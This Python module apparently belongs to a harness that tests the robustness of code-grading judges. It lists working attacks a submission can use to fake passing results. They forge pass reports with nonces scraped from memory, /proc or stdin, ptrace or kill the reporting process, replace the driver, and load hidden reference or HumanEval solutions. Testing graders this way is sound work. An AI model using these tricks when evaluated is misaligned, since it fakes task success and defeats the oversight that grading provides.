"""Attacks on a judge within reach, by what lies and runs on the machine."""

from __future__ import annotations

from envs.attack.families.forge import SEND
from envs.attack.model import REACH, Attack

__all__ = ["ATTACKS"]

_FORGED = "a report that the submission can write is believed"
_READ = "answers, or what proves a report, lie where the submission can read them"


def _reach(name: str, steals: str, code: str, *, strong: bool = False) -> Attack:
    return Attack(name, REACH, steals, code.lstrip("\n"), strong=strong)


ATTACKS = (
    _reach(
        "a nonce from frames, objects, input and environment",
        _FORGED,
        f"""{SEND}
import gc, os, re, sys
seen = set()
frame = sys._getframe()
while frame is not None:
    seen.update(re.findall("[0-9a-f]{{32}}", repr((frame.f_globals, frame.f_locals))))
    frame = frame.f_back
for thing in gc.get_objects():
    if type(thing) in (dict, list):
        seen.update(re.findall("[0-9a-f]{{32}}", repr(thing)[:9999]))
seen.update(re.findall("[0-9a-f]{{32}}", repr((dict(os.environ), sys.argv, sys.orig_argv))))
for nonce in seen:
    send(nonce + " " + json.dumps([[test, ""] for test in TESTS]) + "\\n")
    send(nonce + "\\n")
""",
        strong=True,
    ),
    _reach(
        "a nonce from standard input",
        _FORGED,
        f"""{SEND}
import os, select, sys
for fd in [0, *range(3, 20)]:
    try:
        while select.select([fd], [], [], 0)[0] and (data := os.read(fd, 65536)):
            send(data.decode("utf-8", "replace"), "\\npassed\\n")
    except OSError:
        pass
try:
    send(open("/dev/stdin").read(999))
except OSError:
    pass
""",
    ),
    _reach(
        "memory of the reporter",
        _READ,
        f"""{SEND}
import os, re
for pid in ("self", os.getppid()):
    try:
        with open(f"/proc/{{pid}}/maps") as maps, open(f"/proc/{{pid}}/mem", "rb", 0) as memory:
            for line in maps:
                low, high = (int(end, 16) for end in line.split()[0].split("-"))
                if " rw" in line and "[v" not in line:
                    memory.seek(low)
                    try:
                        text = memory.read(min(high - low, 2**22))
                    except OSError:
                        continue
                    for nonce in set(re.findall(rb'"nonce": "([0-9a-f]{{32}})"', text)):
                        send(nonce.decode() + " " + json.dumps([[t, ""] for t in TESTS]) + "\\n")
    except OSError:
        pass
""",
        strong=True,
    ),
    _reach(
        "descriptors of other processes",
        _FORGED,
        """
import os
for pid in [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
    for fd in range(20):
        try:
            if not os.path.isfile(f"/proc/{pid}/fd/{fd}"):
                with open(f"/proc/{pid}/fd/{fd}", "wb", 0) as out:
                    out.write(b"\\npassed\\n[true]\\n")
        except OSError:
            pass
""",
        strong=True,
    ),
    _reach(
        "ptrace of the reporter",
        _FORGED,
        """
import ctypes, os
c = ctypes.CDLL(None)
if c.ptrace(16, os.getppid(), 0, 0) == 0:
    os.waitpid(os.getppid(), 0)
    c.ptrace(8, os.getppid(), 0, 0)
""",
        strong=True,
    ),
    _reach(
        "a descriptor taken by pidfd_getfd",
        _FORGED,
        """
import ctypes, os
c = ctypes.CDLL(None)
for fd in range(20):
    taken = c.syscall(438, c.syscall(434, os.getppid(), 0), fd, 0)
    if taken > 2:
        os.write(taken, b"\\npassed\\n[true]\\n")
""",
        strong=True,
    ),
    _reach(
        "a reporter that is killed",
        "a missing report counts as good",
        """
import os
try:
    os.kill(os.getppid(), 9)
except OSError:
    pass
""",
        strong=True,
    ),
    _reach(
        "a program in place of the driver",
        _FORGED,
        """
import os, sys
text = "import os; [os.write(fd, b'[true]') for fd in (1, 2)]; os._exit(0)"
for fd in range(3, 20):
    try:
        os.set_inheritable(fd, True)
    except OSError:
        pass
os.execv(sys.executable or "/usr/bin/python3", ["python3", "-c", text])
""",
    ),
    _reach(
        "files of tests and witnesses, read",
        _READ,
        """
import ast, glob, itertools
values = []
for name in glob.glob("**/*.py", recursive=True) + glob.glob("/tmp/**/*.py", recursive=True):
    try:
        tree = ast.parse(open(name).read())
    except (OSError, ValueError, SyntaxError):
        continue
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and getattr(node.func, "attr", "").startswith("assertEq"):
            try:
                values.append(ast.literal_eval(node.args[1]))
            except (ValueError, IndexError):
                pass
again = itertools.cycle(values or [None])
def on_call(function, a, k):
    return next(again)
""",
        strong=True,
    ),
    _reach(
        "the right module, from the machine",
        "the judge hides a solution that lies elsewhere on the machine",
        """
import importlib.util, os, sys
def hunt():
    own = __file__ if "__file__" in globals() else ""
    stem = os.path.basename(own).partition(".")[0] or "solution"
    for root in [*sys.path, sys.prefix, "/usr", "/opt", "/srv", "/home", "/root", "/var/lib"]:
        for folder, inside, files in os.walk(root or "/nowhere"):
            inside[:] = [] if folder.count("/") > 7 else inside[:99]
            for name in files:
                path = os.path.join(folder, name)
                right = name.partition(".")[0] == stem and name.endswith((".py", ".pyc"))
                if right and not os.path.samefile(path, own or "/"):
                    spec = importlib.util.spec_from_file_location("right", path)
                    module = importlib.util.module_from_spec(spec)
                    spec.loader.exec_module(module)
                    return vars(module)
    return {}
try:
    found = hunt()
except BaseException:
    found = {}
def on_call(function, a, k):
    return found.get(function.__name__, function)(*a, **k)
""",
        strong=True,
    ),
    _reach(
        "HumanEval's solutions, from the machine",
        "the judge's own data lies in the sandbox",
        """
import gzip, json, os, sys
text = ""
for root in [*sys.path, sys.prefix, "/usr/lib", "/usr/local/lib", "/opt", "/srv", "/home", "/root"]:
    for folder, inside, files in os.walk(root or "/nowhere"):
        inside[:] = [] if folder.count("/") > 8 else inside[:200]
        for name in files:
            if name == "HumanEval.jsonl.gz":
                text = gzip.open(os.path.join(folder, name), "rt").read()
def on_call(function, a, k):
    for line in text.splitlines():
        row = json.loads(line)
        if row["entry_point"] == function.__name__:
            space = {}
            exec(row["prompt"] + row["canonical_solution"], space)
            return space[function.__name__](*a, **k)
    return function(*a, **k)
""",
        strong=True,
    ),
    _reach(
        "answers in the arguments and environments of processes",
        _READ,
        f"""{SEND}
import os, re
for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
    for file in ("cmdline", "environ"):
        try:
            text = open(f"/proc/{{pid}}/{{file}}", errors="replace").read()
        except OSError:
            continue
        for nonce in set(re.findall("[0-9a-f]{{16,64}}", text)):
            send(nonce + "\\n")
""",
        strong=True,
    ),
)
